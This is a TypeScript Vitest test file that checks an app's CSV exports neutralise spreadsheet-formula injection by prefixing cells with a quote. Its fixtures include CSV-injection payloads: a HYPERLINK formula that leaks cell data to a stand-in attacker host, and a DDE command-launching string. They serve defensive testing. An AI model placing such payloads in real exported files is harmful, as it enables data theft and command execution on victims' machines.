// CSV exports opened in a spreadsheet: no cell from the workspace is evaluated as a formula.
import fs from 'node:fs';
import path from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { describe, expect, it } from 'vitest';
import type { ExportFile, ExportFormat } from '../../shared/contract';
import { FILE_TYPES } from '../../electron/exports/formats';
import { spreadsheetSafe } from '../../electron/exports/csv-text';
import { tempCore, tempDir, value } from '../helpers/temp-workspace';

/** A judge whose name a spreadsheet would evaluate, so header-like cells (the report's judge column) are covered. */
const JUDGE = '@risk';

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
];

/** A workspace whose items, judge verdicts and expert rationales start with formula characters. */
async function formulaSample() {
  const core = await tempCore();
  const dir = tempDir();
  const table = path.join(dir, 'formulas.json');
  const rows = FORMULAS.map((formula, i) => [formula, `=ref${i}`, formula, i % 2 === 0 ? 5 : 1, formula]);
  fs.writeFileSync(
    table,
    JSON.stringify({
      columns: ['inputs', 'ground_truth', 'outputs', `${JUDGE}/v1/score`, `${JUDGE}/v1/justification`],
      data: rows,
    }),
  );
  value(await core.call('import.run', { source: { kind: 'path', path: table }, dataset: { name: 'formulas' } }));
  const labels = path.join(dir, 'labels.csv');
  fs.writeFileSync(
    labels,
    stringify(
      FORMULAS.map((formula, i) => [String(i + 1), JUDGE, i % 3 === 0 ? '5' : '1', formula, 'ana']),
      { header: true, columns: ['item', 'judge', 'value', 'rationale', 'reviewer'] },
    ),
  );
  value(await core.call('labels.importPack', { source: { kind: 'path', path: labels }, datasetId: 1 }));
  return core;
}

const exported = async (core: Awaited<ReturnType<typeof tempCore>>, format: ExportFormat) =>
  value(await core.call('export.build', { judge: JUDGE, format })) as ExportFile;

const CSV_FORMATS = (Object.keys(FILE_TYPES) as ExportFormat[]).filter((f) => FILE_TYPES[f].mimeType === 'text/csv');
const PLAIN_NUMBER = /^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/;

describe('CSV exports and spreadsheet formulas', () => {
  it('covers every CSV export format', () => {
    expect(CSV_FORMATS.sort()).toEqual(['databricks-csv', 'report-csv']);
  });

  it.each(CSV_FORMATS)('%s: no cell starts with =, +, -, @, tab or CR unless it is a number', async (format) => {
    const core = await formulaSample();
    const cells = (parseCsv((await exported(core, format)).content) as string[][]).flat();
    expect(cells.length).toBeGreaterThan(6);
    const evaluated = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !PLAIN_NUMBER.test(cell));
    expect(evaluated).toEqual([]);
  });

  it('databricks-csv keeps each formula readable behind a single quote', async () => {
    const core = await formulaSample();
    const records = parseCsv((await exported(core, 'databricks-csv')).content, { columns: true }) as Record<
      string,
      string
    >[];
    const rationales = records.map((r) => r[`response/llm_judged/${JUDGE}/rationale`]);
    expect(rationales.length).toBeGreaterThan(0);
    for (const rationale of rationales) {
      // Label CSV cells are trimmed on import, so the tab and CR ones arrive as "=1+1".
      expect(FORMULAS.map((f) => `'${f.trim()}`)).toContain(rationale);
    }
    for (const record of records) expect(FORMULAS.map((f) => `'${f}`)).toContain(record.request);
  });

  it('report-csv neutralises the judge column and keeps statistics as numbers', async () => {
    const core = await formulaSample();
    const rows = parseCsv((await exported(core, 'report-csv')).content, { columns: true }) as Record<string, string>[];
    expect(new Set(rows.map((r) => r.judge))).toEqual(new Set([`'${JUDGE}`]));
    const kappa = rows.find((r) => r.statistic === 'kappa')!;
    expect(kappa.value).toMatch(PLAIN_NUMBER);
  });

  it('neutralises text only: numbers and text that is exactly a number stay as they are', () => {
    expect(spreadsheetSafe(-0.5)).toBe(-0.5);
    expect(spreadsheetSafe('-0.5')).toBe('-0.5');
    expect(spreadsheetSafe('+3e-2')).toBe('+3e-2');
    expect(spreadsheetSafe('-0.5+A1')).toBe("'-0.5+A1");
    expect(spreadsheetSafe('-')).toBe("'-");
    expect(spreadsheetSafe('a=1')).toBe('a=1');
    expect(spreadsheetSafe(null)).toBe(null);
  });
});
